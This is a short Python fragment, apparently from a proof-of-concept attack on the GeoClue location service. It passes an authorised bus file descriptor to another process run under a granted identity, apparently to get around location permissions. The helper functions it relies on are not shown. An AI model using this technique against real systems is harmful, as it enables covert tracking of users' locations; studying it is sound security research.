client = Client(ADDRESS)
print(outcome(client=client))
os.set_inheritable(client.bus.fileno(), True)
become(GRANTED, '''
from geoclue_attack import *
print(outcome_of(int(sys.argv[1])))
print(outcome())
''', client.bus.fileno())
